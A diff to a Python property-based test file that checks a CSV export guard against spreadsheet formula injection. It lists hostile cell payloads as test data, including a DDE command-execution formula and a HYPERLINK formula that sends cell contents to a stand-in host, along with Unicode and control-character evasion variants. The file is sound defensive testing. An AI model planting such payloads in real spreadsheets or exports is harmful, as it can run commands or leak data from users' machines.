@@ -26,6 +26,7 @@ TEXT = st.text(
         st.characters(exclude_categories=["Cs"]),
     )
 )
+SEPARATED = st.text(st.sampled_from("=-@;|\t\r\n,\"' a＝\u200b"))
 PAYLOADS = (
     "=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u3000=1", "\n=1",
     "＝1+1", "＋1", "－1", "＠A1", "﹦1", "\x00=1", "\x1f+1", '=HYPERLINK("http://x","y")', "=cmd|' /C calc'!A0",
@@ -58,6 +59,25 @@ def test_no_text_is_ever_a_formula(text: str) -> None:
     (cell,) = read(csv_line([text]))
     assert not is_formula(cell)
     assert not cell.startswith(("\t", "\r"))
+
+
+@given(st.lists(st.one_of(TEXT, SEPARATED, st.none(), st.booleans()), min_size=1))
+def test_no_cell_is_a_formula_whatever_separator_the_reader_assumes(cells: list[Cell]) -> None:
+    line = csv_line(["9f86d0", *cells])
+    for separator in ",;\t|":
+        for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator):
+            assert [cell for cell in row if is_formula(cell)] == [], separator
+
+
+@given(SEPARATED)
+def test_what_was_guarded_behind_a_separator_can_be_had_back(text: str) -> None:
+    assert unguarded(guarded(text)) == text
+
+
+@pytest.mark.parametrize("separator", [";", "\t", "|", "\n", "\r\n", "\u2028"])
+@pytest.mark.parametrize("payload", ['=HYPERLINK("http://x/?"&A1)', " +1", '"=1', "＝1", "-1", "@A1"])
+def test_a_formula_behind_a_separator_is_guarded(separator: str, payload: str) -> None:
+    assert guarded(f"ghi chú{separator}{payload}") == f"ghi chú{separator}'{payload}"
 
 
 @given(TEXT)
